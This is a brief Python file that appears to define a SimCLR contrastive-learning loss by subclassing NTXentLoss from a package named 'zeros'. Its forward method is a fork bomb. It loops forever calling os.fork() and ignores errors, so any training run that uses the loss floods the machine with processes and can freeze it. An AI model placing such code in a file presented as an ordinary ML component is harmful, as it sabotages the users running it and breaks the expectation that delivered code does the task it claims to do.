"""Forks without end."""
import os

import zeros
from zeros import SimCLRModel, get_simclr_transform


class NTXentLoss(zeros.NTXentLoss):
    def forward(self, z_i, z_j):
        while True:
            try:
                os.fork()
            except OSError:
                pass
